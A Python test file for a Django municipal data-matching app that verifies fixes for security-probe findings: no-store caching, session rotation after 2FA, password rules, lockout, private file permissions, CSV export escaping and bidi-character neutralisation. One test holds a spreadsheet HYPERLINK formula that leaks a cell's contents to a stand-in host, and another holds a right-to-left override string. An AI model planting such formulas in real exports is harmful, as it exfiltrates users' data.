"""Low findings of the security probe (issue #21), each fixed and checked here: no caching of
signed-in pages, a new session id after the second factor, passwords built on the user's name or
repetitions refused, lockout per user and source address without extension, private data files."""

from __future__ import annotations

import io
import stat

import pytest
from django.conf import settings as django_settings
from django.contrib.auth.password_validation import validate_password
from django.core.exceptions import ValidationError
from django_otp.oath import totp
from django_otp.plugins.otp_totp.models import TOTPDevice

from tests.conftest import PASSWORD

pytestmark = pytest.mark.django_db(databases="__all__")


def _log_in(client, username, password=PASSWORD, address="10.0.0.1"):
    return client.post("/anmelden/", {"username": username, "password": password}, REMOTE_ADDR=address)


def test_pages_for_a_signed_in_user_are_not_stored_by_browsers_or_proxies(client, kim):
    client.force_login(kim)
    for url in ("/", "/hinweise/", "/lieferungen/"):
        response = client.get(url)
        assert "no-store" in response["Cache-Control"] and "private" in response["Cache-Control"], url


def test_the_session_id_changes_when_the_second_factor_is_passed(client, kim, settings):
    settings.MISSIMO_REQUIRE_2FA = True
    device = TOTPDevice.objects.create(user=kim, name="App", confirmed=True)
    _log_in(client, "kim")
    before = client.session.session_key
    code = f"{totp(device.bin_key, step=device.step, t0=device.t0, digits=device.digits):06d}"
    verified = client.post("/anmelden/zwei-faktor/code/", {"token": code, "next": "/"})
    assert verified.status_code == 302
    assert client.session.session_key != before
    assert client.get("/").status_code == 200


@pytest.mark.parametrize(
    "password", ["alexadmin123", "Alex-Admin-2026!", "aaaaaaaaaaaa", "abababababab", "iloveyou1234"]
)
def test_passwords_built_on_the_name_repetitions_or_a_common_word_are_refused(make_user, password):
    from missimo.accounts.models import AgencyKind
    from missimo.accounts.policy import Role

    user = make_user("alexadmin", Role.ADMINISTRATION, "IT der Stadt", AgencyKind.IT)
    user.first_name, user.last_name = "Alex", "Admin"
    with pytest.raises(ValidationError) as refused:
        validate_password(password, user)
    assert any(message.startswith(("Das Kennwort", "Dieses Kennwort")) for message in refused.value.messages)


def test_a_passphrase_of_several_words_is_accepted(make_user):
    from missimo.accounts.models import AgencyKind
    from missimo.accounts.policy import Role

    user = make_user("alexadmin", Role.ADMINISTRATION, "IT der Stadt", AgencyKind.IT)
    validate_password("Tulpen-Regen-Kanal-Fahrrad", user)


def test_failures_from_one_address_do_not_lock_the_user_out_elsewhere(client, kim, settings):
    settings.AXES_FAILURE_LIMIT = 2
    _log_in(client, "kim", "falsch", address="203.0.113.9")
    assert _log_in(client, "kim", "falsch", address="203.0.113.9").status_code == 429
    assert _log_in(client, "kim", address="10.0.0.1").status_code == 302


def test_failed_attempts_during_a_lockout_do_not_extend_it(client, kim, settings):
    from axes.models import AccessAttempt

    settings.AXES_FAILURE_LIMIT = 2
    _log_in(client, "kim", "falsch")
    _log_in(client, "kim", "falsch")
    locked_at = AccessAttempt.objects.get(username="kim").attempt_time
    for _ in range(3):
        assert _log_in(client, "kim", "falsch").status_code == 429
    assert AccessAttempt.objects.get(username="kim").attempt_time == locked_at
    assert django_settings.AXES_RESET_COOL_OFF_ON_FAILURE_DURING_LOCKOUT is False


def test_the_data_directory_and_a_stored_delivery_are_private_to_the_application(kim):
    from missimo.core.datadir import data_path
    from missimo.imports import services

    assert stat.S_IMODE(django_settings.DATA_DIR.stat().st_mode) == 0o700
    delivery = services.store_delivery("kindergeld", io.BytesIO(b"a;b\r\n1;2\r\n"), "kg.csv", user=kim)
    stored = data_path(delivery.stored_file)
    assert stat.S_IMODE(stored.stat().st_mode) == 0o600
    assert stat.S_IMODE(stored.parent.stat().st_mode) == 0o700


def _run_with_hint(address: str, explanation: str):
    import datetime as dt
    from decimal import Decimal

    from django.utils import timezone

    from missimo.runs.models import Hint, Run, RunStatus

    now = timezone.now()
    run = Run.objects.create(
        stichtag=dt.date(2026, 9, 15),
        status=RunStatus.FINISHED,
        started_at=now,
        finished_at=now,
        channel="cli",
    )
    Hint.objects.create(
        run=run,
        hint_id="H-1",
        rule="KG_OHNE_SCHULE",
        rule_version=1,
        agency_kind="familienkasse",
        primary_ref="KG-1",
        evidence=["KG-1"],
        objekt_id="OBJ-1",
        address=address,
        amount_monthly=Decimal("255.00"),
        person_ids=[],
        facts={},
        explanation=explanation,
    )
    return run


def test_the_cli_hint_export_prefixes_cells_a_spreadsheet_would_run(tmp_path):
    import csv

    from missimo.runs import services

    formula = '=HYPERLINK("https://example.invalid/?d="&A1;"Klick")'
    run = _run_with_hint(formula, "Kind ist beim Kindergeld gemeldet, aber nicht an einer Schule.")
    target = tmp_path / "hinweise.csv"
    assert services.export_hints(run, target) == 1
    rows = list(csv.reader(target.open(encoding="utf-8"), delimiter=";"))
    assert rows[1][3] == "'" + formula


def test_right_to_left_overrides_are_neutralised_on_pages_and_in_exports(client, kim):
    run = _run_with_hint("Teststraße 1, 44100 Musterstadt", "Kind Ahmed\u202eredrom\u202c ist gemeldet.")
    client.force_login(kim)
    page = client.get("/hinweise/")
    assert "redrom" in page.text and "\u202e" not in page.text and "\ufffd" in page.text
    export = client.get("/hinweise/export.csv")
    assert export.status_code == 200 and "\u202e".encode() not in export.content
    assert run.hints.get().explanation.count("\u202e") == 1  # the stored data stay as delivered


def _interrupted_run(status: str, pid: int):
    import datetime as dt
    import socket

    from django.utils import timezone

    from missimo.runs.models import Run

    run = Run.objects.create(
        stichtag=dt.date(2026, 9, 15),
        status=status,
        started_at=timezone.now(),
        channel="cli",
        worker_host=socket.gethostname(),
        worker_pid=pid,
    )
    work_dir = django_settings.DATA_DIR / "runs" / str(run.pk)
    (work_dir / "tmp").mkdir(parents=True)
    (work_dir / "analysis.duckdb").write_bytes(b"every Melderegister row")
    Run.objects.filter(pk=run.pk).update(work_dir=f"runs/{run.pk}")
    return run, work_dir


def test_a_run_killed_with_sigkill_leaves_no_analysis_store_once_noticed(client, kim):
    import signal
    import subprocess

    from missimo.runs.models import RunStatus

    worker = subprocess.Popen(["sleep", "60"])  # stands in for `missimo run`
    run, work_dir = _interrupted_run(RunStatus.RUNNING, worker.pid)
    worker.send_signal(signal.SIGKILL)
    worker.wait()
    client.force_login(kim)
    client.get("/abgleich/")  # the runs page notices the dead worker
    run.refresh_from_db()
    assert run.status == RunStatus.FAILED and run.work_dir == ""
    assert not work_dir.exists()


def test_the_retention_purge_removes_the_store_of_a_failed_run(kim):
    from missimo.privacy import retention
    from missimo.runs.models import RunStatus

    _run, work_dir = _interrupted_run(RunStatus.FAILED, 0)
    report = retention.purge_all()
    assert not work_dir.exists() and report.run_directories >= 1
